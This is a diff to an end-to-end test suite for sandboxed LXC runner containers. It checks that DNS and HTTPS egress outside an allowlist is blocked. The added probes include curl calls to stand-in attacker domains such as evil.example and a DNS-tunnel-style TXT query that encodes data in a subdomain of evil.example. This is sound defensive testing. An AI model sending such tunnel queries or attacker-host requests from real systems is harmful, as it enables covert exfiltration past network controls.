@@ -100,6 +100,27 @@ describe("runners: LXC end-to-end (unprivileged container, systemd, real provisi
       .filter(Boolean)
       .map((l) => JSON.parse(l));
 
+  /** The queries the upstream DNS server received from the container (it logs every query). */
+  const upstreamQueries = (): Array<{ type: string; name: string }> =>
+    readFileSync(join(tmp, "upstream-dns.log"), "utf8")
+      .split("\n")
+      .map((l) => /query\[(\w+)\] (\S+) from (\S+)/.exec(l))
+      .filter((m): m is RegExpExecArray => m !== null && m[3] === NET.container)
+      .map((m) => ({ type: m[1]!, name: m[2]! }));
+  /** Whether NAME is an allowed domain or one of its subdomains (the rendered EGRESS_DOMAINS). */
+  const allowedName = (name: string) =>
+    env.get("EGRESS_DOMAINS")!.split(/\s+/).filter(Boolean).some((d) => name === d || name.endsWith(`.${d}`));
+  /** Probes that no query for a name outside the allowlist ever reached the upstream DNS server. */
+  const probeUpstreamQueries = (g: string) => {
+    const queries = upstreamQueries();
+    const outside = queries.filter((q) => !allowedName(q.name));
+    probes.add(g, "the upstream DNS server received no query for a name outside the allowlist",
+      `0 of ${queries.length} queries from the container`, outside.length ? outside.map((q) => `${q.type} ${q.name}`).join(", ") : `0 of ${queries.length}`,
+      outside.length === 0);
+    const seen = queries.some((q) => q.name === "github.com");
+    probes.add(g, "(and its query log works: it has github.com from the container)", "github.com queried", seen ? "github.com queried" : "not in the log", seen);
+  };
+
   /** The events the stats service appended to its files. */
   const storedEvents = (): Array<Record<string, unknown>> =>
     readdirSync(statsData)
@@ -456,10 +477,13 @@ describe("runners: LXC end-to-end (unprivileged container, systemd, real provisi
     probes.add(g, "the stats service endpoint", "answers", describeRun(r), r.status === 0 && r.stdout.includes("status"));
     const before = internetRequests().length;
     for (const name of ["evil.example", "notgithub.com", "github.com.evil.example"]) {
-      r = asRunner(`getent ahostsv4 ${name} | head -n 1 | cut -d' ' -f1; curl -sS --max-time 4 https://${name}/`);
-      probes.add(g, `HTTPS to ${name} (resolves, not allowed)`, `resolves to ${NET.records[name]}, connection fails`, describeRun(r),
-        r.status !== 0 && r.stdout.startsWith(NET.records[name]!));
+      r = asRunner(`dig +time=2 +tries=1 ${name} | grep -o 'status: [A-Z]*'; curl -sS --max-time 4 https://${name}/`);
+      probes.add(g, `HTTPS to ${name} (not allowed)`, "NXDOMAIN from dnsmasq, connection fails", describeRun(r),
+        r.status !== 0 && r.stdout.startsWith("status: NXDOMAIN") && !r.stdout.includes(NET.records[name]!));
     }
+    // What a DNS tunnel sends: data in the names of a domain it controls, in TXT (or any other) queries.
+    r = asRunner("dig +time=2 +tries=1 TXT c2VjcmV0LWRhdGE.evil.example | grep -o 'status: [A-Z]*'; dig +short +time=2 +tries=1 -x 198.51.100.66");
+    probes.add(g, "DNS tunnel-like TXT query and a reverse lookup", "NXDOMAIN, no answer", describeRun(r), r.stdout.trim() === "status: NXDOMAIN");
     r = asRunner(`curl -ksS --max-time 4 https://${NET.neverResolved}/`);
     probes.add(g, "HTTPS to a raw IP never resolved", "fails", describeRun(r), r.status !== 0);
     r = asRunner(`curl -ksS --max-time 4 https://${NET.records["evil.example"]}/`);
@@ -474,6 +498,7 @@ describe("runners: LXC end-to-end (unprivileged container, systemd, real provisi
     probes.add(g, "DNS to the upstream directly (not as dnsmasq)", "no answer", describeRun(r), !r.stdout.includes(NET.records["github.com"]!));
     r = asRunner(`dig +short +tcp +time=2 +tries=1 @${NET.dns} github.com`);
     probes.add(g, "DNS over TCP to the upstream directly", "no answer", describeRun(r), !r.stdout.includes(NET.records["github.com"]!));
+    probeUpstreamQueries(g);
     r = asRunner("dig +short +time=2 +tries=1 AAAA github.com");
     probes.add(g, "AAAA answers filtered by dnsmasq", "(empty)", describeRun(r), r.status === 0 && r.stdout.trim() === "");
     r = asRunner(`curl -gksS --max-time 4 https://[${NET.v6}]/`);
